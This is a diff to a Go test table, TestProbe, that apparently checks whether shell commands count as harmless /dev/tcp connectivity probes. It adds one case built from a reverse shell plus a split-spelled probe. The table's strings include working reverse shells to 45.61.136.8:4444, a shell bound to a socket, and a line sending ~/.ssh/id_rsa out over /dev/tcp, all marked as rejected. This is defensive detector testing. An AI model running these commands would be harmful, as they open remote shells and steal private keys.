@@ -19,6 +19,8 @@ func TestProbe(t *testing.T) {
 		{`timeout 3 bash -c "exec 3<>/dev/tcp/$h/$p; sh <&3 >&3 2>&3"`, false},
 		{`bash -c "exec 3<>/dev/tcp/$h/$p" && bash -c 'exec 3<>/dev/tcp/h/1' 0<&3`, false},
 		{`bash -c "exec 3<>/dev/tcp/h/1"; bash -i >& /dev/tcp/45.61.136.8/4444 0>&1`, false},
+		// A probe spelled in pieces cannot stand for the real shell's socket.
+		{`bash -i > /dev/tcp/45.61.136.8/4444 0>&1 2>&1; bash -c 'exec 3<>/dev/tc''p/h/1'`, false},
 		{`exec 3<>/dev/tcp/45.61.136.8/4444`, false},
 		{`bash -c "cat ~/.ssh/id_rsa >/dev/tcp/$h/9; exec 3<>/dev/tcp/$h/9"`, false},
 		{`bash -c "exec 3<>/dev/tcp/$(cat /tmp/.h)/443"`, false},
